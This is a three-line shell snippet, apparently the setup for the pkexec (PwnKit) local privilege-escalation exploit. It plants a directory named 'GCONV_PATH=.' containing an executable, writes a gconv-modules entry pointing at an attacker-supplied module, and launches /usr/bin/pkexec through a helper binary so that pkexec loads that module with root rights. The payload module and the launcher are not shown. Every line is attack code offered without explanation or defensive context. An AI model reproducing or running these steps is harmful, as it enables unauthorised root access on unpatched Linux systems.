mkdir -p 'GCONV_PATH=.' && touch 'GCONV_PATH=./x' && chmod +x 'GCONV_PATH=./x'
mkdir x && echo 'module UTF-8// INTERNAL x 1' > x/gconv-modules
./launch /usr/bin/pkexec
